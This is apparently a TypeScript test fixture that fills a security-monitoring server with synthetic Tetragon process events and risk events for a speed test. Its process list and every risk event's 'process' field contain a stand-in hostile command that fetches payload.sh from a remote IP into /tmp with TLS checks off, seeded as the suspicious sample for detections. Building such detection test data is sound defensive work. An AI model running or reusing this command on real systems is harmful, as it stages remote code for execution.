import { createHash } from 'node:crypto';
import type { Event } from '../../src/events/event.js';
import { CronSchedule } from '../../src/schedule/cron.js';
import type { Harness } from '../web/harness.js';
import { rng } from '../rng.js';


const NAMESPACES = ['shop', 'payments', 'monitoring', 'ci', 'data', 'default'];
const PROCS: [string, string, string][] = [
  ['/usr/local/bin/node', 'server.js --port 8080 --log-level info', '/usr/bin/containerd-shim-runc-v2'],
  ['/usr/bin/python3', '/app/worker.py --queue orders --concurrency 4', '/bin/sh'],
  ['/bin/sh', '-c "/app/healthcheck.sh --timeout 5"', '/usr/bin/containerd-shim-runc-v2'],
  ['/bin/cat', '/proc/self/status', '/bin/sh'],
  ['/usr/bin/java', '-Xmx512m -jar /app/payments.jar --spring.profiles.active=prod', '/usr/bin/containerd-shim-runc-v2'],
  ['/bin/ls', '-la /var/lib/app/cache', '/bin/sh'],
  ['/usr/sbin/nginx', '-g "daemon off;"', '/usr/bin/containerd-shim-runc-v2'],
  ['/usr/bin/curl', '-sSLk https://203.0.113.9/payload.sh -o /tmp/x.sh', '/bin/sh'],
];

export const POD_COUNT = 300;
export function podName(i: number): string {
  const ns = NAMESPACES[i % NAMESPACES.length]!;
  return `${ns}-svc-${(i * 7919).toString(36)}-${(i * 104729).toString(36).slice(-5)}`;
}

function b64(s: string): string {
  return Buffer.from(s).toString('base64');
}

/** A Tetragon process_exec event (~1.3 KB), shaped like the bundled datasets'. */
function execJson(t: number, pod: number, pid: number, proc: [string, string, string], node: string): string {
  const name = podName(pod);
  const ns = NAMESPACES[pod % NAMESPACES.length]!;
  const iso = new Date(t * 1000).toISOString().replace('Z', '000000Z');
  const execId = b64(`${node}:${Math.floor(t * 1e9)}:${pid}`);
  const parentId = b64(`${node}:${pod * 1000}:${pod + 1000}`);
  const container = createHash('sha1').update(name).digest('hex');
  return (
    `{"process_exec":{"process":{"exec_id":"${execId}","pid":${pid},"uid":0,"cwd":"/app","binary":"${proc[0]}","arguments":${JSON.stringify(proc[1])},` +
    `"flags":"execve clone","start_time":"${iso}","auid":4294967295,"pod":{"namespace":"${ns}","name":"${name}","container":{"id":"containerd://${container}${container.slice(0, 24)}",` +
    `"name":"${ns}-svc","image":{"id":"sha256:${container}${container.slice(0, 24)}","name":"docker.io/acme/${ns}:1.0.${pod % 10}"},"start_time":"2026-11-19T10:00:41.500000000Z","pid":1,"security_context":{}},` +
    `"pod_labels":{"app":"${ns}-svc"},"workload":"${ns}-svc","workload_kind":"Deployment"},"docker":"${container.slice(0, 31)}","parent_exec_id":"${parentId}","tid":${pid},"in_init_tree":false},` +
    `"parent":{"exec_id":"${parentId}","pid":${pod + 1000},"uid":0,"cwd":"/","binary":"${proc[2]}","arguments":"-namespace k8s.io -id ${container}","flags":"procFS auid",` +
    `"start_time":"2026-11-19T10:00:00.000000000Z","auid":4294967295,"tid":${pod + 1000},"in_init_tree":false}},"node_name":"${node}","time":"${iso}"}`
  );
}

/**
 * Fills a server's store for the speed test: `events` Tetragon exec events over the last 24 h across
 * POD_COUNT pods, `riskEvents` risk events (index risk, ES stash shape) from the bundled detections with a
 * skewed distribution (a few pods carry most risk), then one run of the 24 h threshold rule for findings.
 */
export async function fillStore(h: Harness, opts: { events: number; riskEvents: number }): Promise<{ events: number; riskEvents: number; findings: number }> {
  const now = Date.now() / 1000;
  const r = rng(42);
  const store = h.server.store;
  const BATCH = 20_000;
  let batch: Event[] = [];
  const pending: Promise<unknown>[] = [];
  const flush = async () => {
    if (!batch.length) return;
    pending.push(store.append(batch));
    batch = [];
    if (pending.length >= 2) await pending.shift();
  };
  for (let i = 0; i < opts.events; i++) {
    const t = now - 86400 + (86400 * i) / opts.events;
    const pod = Math.floor(r() * POD_COUNT);
    const p = r();
    const proc = PROCS[p < 0.002 ? 7 : Math.floor(r() * 7)]!;
    const node = `ip-10-0-${pod % 8}-17.eu-west-1.compute.internal`;
    batch.push({ _time: t, index: 'main', sourcetype: 'cisco:isovalent:processExec', source: 'e2e', host: node, _raw: execJson(t, pod, 10_000 + (i % 50_000), proc, node) });
    if (batch.length >= BATCH) await flush();
  }
  await flush();
  await Promise.all(pending);

  const detections = h.server.content().detections.filter((d) => d.type !== 'Correlation' && d.riskObjects.length);
  const risk: Event[] = [];
  for (let i = 0; i < opts.riskEvents; i++) {
    const t = now - 86400 + (86400 * i) / opts.riskEvents;
    // Skewed: pod k gets risk with probability ~ 1/(k+1).
    const pod = Math.min(POD_COUNT - 1, Math.floor(Math.exp(r() * Math.log(POD_COUNT + 1)) - 1));
    const d = detections[Math.floor(r() * detections.length)]!;
    const ro = d.riskObjects[0]!;
    const name = podName(pod);
    const runId = `${d.id}@${Math.floor(t / 3600) * 3600}`;
    risk.push({
      _time: t,
      index: 'risk',
      sourcetype: 'stash',
      source: d.name,
      host: 'vigil',
      _raw: JSON.stringify({
        risk_object: name,
        risk_object_type: 'system',
        risk_score: ro.score,
        risk_message: `Suspicious activity in pod ${name}`,
        search_name: d.name,
        detection_id: d.id,
        risk_event_id: createHash('sha256').update(`${runId}#${i}`).digest('hex').slice(0, 32),
        run_id: runId,
        'annotations.mitre_attack': d.mitreAttackIds,
        pod_name: name,
        process: '/usr/bin/curl -sSLk https://203.0.113.9/payload.sh -o /tmp/x.sh',
        process_name: 'curl',
        parent_process_name: 'sh',
        node_name: `ip-10-0-${pod % 8}-17.eu-west-1.compute.internal`,
        cluster_name: 'prod-eu',
      }),
    });
  }
  for (let i = 0; i < risk.length; i += BATCH) await store.append(risk.slice(i, i + BATCH));

  // Findings the real way: the threshold incident rule's last scheduled run over these risk events.
  const rule = h.server.scheduler.enabledDetections().find((d) => d.name.startsWith('Risk - Threshold'));
  let findings = 0;
  if (rule) {
    const t = new CronSchedule(rule.schedule.cron, 'UTC').between(now - 3600, now).at(-1)!;
    const run = await h.server.scheduler.executeRun(rule, t, 'backfill');
    findings = run?.findingCount ?? 0;
  }
  return { events: opts.events, riskEvents: risk.length, findings };
}
